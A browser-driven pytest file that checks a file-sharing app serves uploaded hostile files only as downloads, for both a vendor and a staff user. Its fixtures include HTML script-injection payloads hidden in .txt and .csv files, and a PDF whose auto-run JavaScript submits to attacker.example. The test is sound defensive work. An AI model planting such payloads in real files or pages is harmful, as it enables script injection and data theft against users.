"""E: a hostile file opened through Duly, in a real browser: it is saved, and nothing of it runs."""

import io

import pikepdf
import pytest
from playwright.sync_api import Error

from foundation.csrf import cookie_name
from tests.attacks.files_ground import Hand
from tests.people import RABIA

pytestmark = pytest.mark.browser

RUN = "<script>document.title = 'owned'; window.owned = 1</script>"


def script_pdf():
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript,
        JS="app.alert('owned'); this.submitForm('http://attacker.example')",
    )
    document.save(file := io.BytesIO())
    return file.getvalue()


HOSTILE = {
    "page.txt": f"Policy\n<html><body>{RUN}<img src=x onerror=owned()></body></html>".encode(),
    "page.csv": f"a;b\n<html>{RUN}\n".encode(),
    "script.pdf": script_pdf(),
}


def window_of(chromium, hand: Hand):
    context = chromium.new_context(base_url=hand.url, accept_downloads=True)
    cookie = {"name": cookie_name(hand.cookie), "value": hand.session, "url": hand.url}
    context.add_cookies([cookie])
    return context


@pytest.mark.parametrize("name", HOSTILE)
def test_E15_a_hostile_file_is_saved_and_nothing_of_it_runs(files, chromium, name):
    vania = files.vendor()
    assert vania.bring(HOSTILE[name], name).status == 303
    (row,) = files.files(vania)
    rabia = files.staff(RABIA, vania.vendor_id)
    ways = (
        (vania, "/p/evidence", f"/p/evidence/{row.id}/download"),
        (rabia, f"/vendors/{vania.vendor_id}/evidence", f"/evidence/{row.id}/download"),
    )
    for hand, page_path, path in ways:
        context = window_of(chromium, hand)
        asked = []
        try:
            page = context.new_page()
            page.on("request", lambda request, asked=asked: asked.append(request.url))
            page.goto(page_path)
            before = page.title()
            with page.expect_download() as begun:
                page.click(f'a[href="{path}"]')
            assert begun.value.suggested_filename == name
            # Typed into the address bar, it does not become a page of ours either.
            with pytest.raises(Error, match=r"Download is starting|ERR_ABORTED"):
                page.goto(path)
            assert page.title() == before
            assert page.evaluate("window.owned") is None
            assert page.url.endswith(page_path)
        finally:
            context.close()
        assert [url for url in asked if not url.startswith(files.url)] == []
